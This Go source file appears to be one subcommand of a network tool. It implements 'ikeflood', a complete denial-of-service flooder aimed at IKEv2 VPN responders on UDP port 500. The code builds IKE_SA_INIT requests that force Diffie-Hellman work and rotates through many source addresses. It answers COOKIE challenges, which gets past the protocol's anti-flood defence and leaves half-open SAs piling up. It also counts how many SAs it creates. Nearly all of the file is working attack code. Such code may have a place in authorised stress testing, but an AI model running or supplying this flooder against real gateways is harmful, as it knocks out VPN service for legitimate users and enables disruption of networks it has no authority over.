package main

import (
	"crypto/rand"
	"encoding/binary"
	"encoding/json"
	"errors"
	"flag"
	"net"
	"net/netip"
	"os"
	"sync"
	"sync/atomic"
	"time"
)

// ikeflood sends new IKE_SA_INIT requests (RFC 7296 section 1.2:
// AES-GCM-16-256, PRF-HMAC-SHA-256, Curve25519, so each costs the
// responder a Diffie-Hellman) from -n consecutive source addresses
// starting at -src, -rate per second in all, for -t, to DEST port 500.
// It answers COOKIE requests as a real initiator does (RFC 7296 section
// 2.6), so its sources are real ones holding half-open SAs. It prints
// {"sent":…,"cookies":…,"responses":…} (responses: IKE_SA_INIT answers
// with a KE payload, i.e. half-open SAs made).
//
//	nettool ikeflood -src 192.168.77.100 -n 50 -rate 2000 -t 8s DEST
func ikeflood(args []string) error {
	fs := flag.NewFlagSet("ikeflood", flag.ContinueOnError)
	src := fs.String("src", "", "first source address")
	n := fs.Int("n", 1, "number of source addresses")
	rate := fs.Int("rate", 1000, "requests per second in all")
	dur := fs.Duration("t", 5*time.Second, "duration")
	if err := fs.Parse(args); err != nil || fs.NArg() != 1 {
		return errors.New("usage: ikeflood -src A [-n N] [-rate R] [-t D] DEST")
	}
	first, err := netip.ParseAddr(*src)
	if err != nil {
		return err
	}
	dst, err := net.ResolveUDPAddr("udp", net.JoinHostPort(fs.Arg(0), "500"))
	if err != nil {
		return err
	}
	var conns []*net.UDPConn
	a := first
	for range *n {
		c, err := net.ListenUDP("udp", net.UDPAddrFromAddrPort(netip.AddrPortFrom(a, 0)))
		if err != nil {
			return err
		}
		defer c.Close()
		conns = append(conns, c)
		a = a.Next()
	}
	var sent, cookies, responses atomic.Uint64
	var wg sync.WaitGroup
	for _, c := range conns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			buf := make([]byte, 4096)
			for {
				c.SetReadDeadline(time.Now().Add(*dur + time.Second))
				m, err := c.Read(buf)
				if err != nil {
					return
				}
				spi, cookie, ke := parseInitResponse(buf[:m])
				switch {
				case cookie != nil:
					cookies.Add(1)
					c.WriteToUDP(initRequest(spi, cookie), dst)
				case ke:
					responses.Add(1)
				}
			}
		}()
	}
	end := time.Now().Add(*dur)
	// Batches every 10 ms: sleeping between single datagrams cannot
	// reach thousands per second.
	batch := max(*rate/100, 1)
	start := time.Now()
	for i := 0; time.Now().Before(end); {
		for range batch {
			spi := make([]byte, 8)
			rand.Read(spi)
			if _, err := conns[i%len(conns)].WriteToUDP(initRequest(binary.BigEndian.Uint64(spi), nil), dst); err == nil {
				sent.Add(1)
			}
			i++
		}
		if d := time.Until(start.Add(time.Duration(i/batch) * 10 * time.Millisecond)); d > 0 {
			time.Sleep(d)
		}
	}
	for _, c := range conns {
		c.SetReadDeadline(time.Now().Add(time.Second))
	}
	wg.Wait()
	return json.NewEncoder(os.Stdout).Encode(map[string]uint64{"sent": sent.Load(), "cookies": cookies.Load(), "responses": responses.Load()})
}

// initRequest encodes an IKE_SA_INIT request: [N(COOKIE)] SA KE Ni.
func initRequest(spi uint64, cookie []byte) []byte {
	payload := func(next byte, body []byte) []byte {
		h := []byte{next, 0, 0, 0}
		binary.BigEndian.PutUint16(h[2:], uint16(4+len(body)))
		return append(h, body...)
	}
	transform := func(last bool, typ byte, id uint16, attr []byte) []byte {
		b := []byte{3, 0, 0, 0, typ, 0, 0, 0}
		if last {
			b[0] = 0
		}
		binary.BigEndian.PutUint16(b[6:], id)
		b = append(b, attr...)
		binary.BigEndian.PutUint16(b[2:], uint16(len(b)))
		return b
	}
	var ts []byte
	ts = append(ts, transform(false, 1, 20, []byte{0x80, 0x0e, 0x01, 0x00})...) // ENCR_AES_GCM_16, 256 bits
	ts = append(ts, transform(false, 2, 5, nil)...)                             // PRF_HMAC_SHA2_256
	ts = append(ts, transform(true, 4, 31, nil)...)                             // Curve25519
	prop := append([]byte{0, 0, 0, 0, 1, 1, 0, 3}, ts...)
	binary.BigEndian.PutUint16(prop[2:], uint16(len(prop)))
	pub := make([]byte, 32)
	rand.Read(pub)
	nonce := make([]byte, 32)
	rand.Read(nonce)
	body := payload(34, prop)                                                // SA, next KE
	body = append(body, payload(40, append([]byte{0, 31, 0, 0}, pub...))...) // KE, next Ni
	body = append(body, payload(0, nonce)...)
	first := byte(33)
	if cookie != nil {
		n := append([]byte{0, 0, 0x40, 0x06}, cookie...) // COOKIE (16390)
		body = append(payload(33, n), body...)
		first = 41
	}
	h := make([]byte, 28)
	binary.BigEndian.PutUint64(h, spi)
	h[16], h[17], h[18], h[19] = first, 0x20, 34, 0x08
	binary.BigEndian.PutUint32(h[24:], uint32(28+len(body)))
	return append(h, body...)
}

// parseInitResponse returns the initiator SPI of an IKE_SA_INIT response,
// its COOKIE if it asks for one, and whether it carries a KE payload.
func parseInitResponse(b []byte) (uint64, []byte, bool) {
	if len(b) < 28 || b[18] != 34 || b[19]&0x20 == 0 {
		return 0, nil, false
	}
	spi := binary.BigEndian.Uint64(b)
	next, off := b[16], 28
	for next != 0 && off+4 <= len(b) {
		l := int(binary.BigEndian.Uint16(b[off+2:]))
		if l < 4 || off+l > len(b) {
			break
		}
		body := b[off+4 : off+l]
		switch {
		case next == 41 && len(body) >= 4 && binary.BigEndian.Uint16(body[2:]) == 16390:
			return spi, append([]byte(nil), body[4+int(body[1]):]...), false
		case next == 34:
			return spi, nil, true
		}
		next, off = b[off], off+l
	}
	return spi, nil, false
}
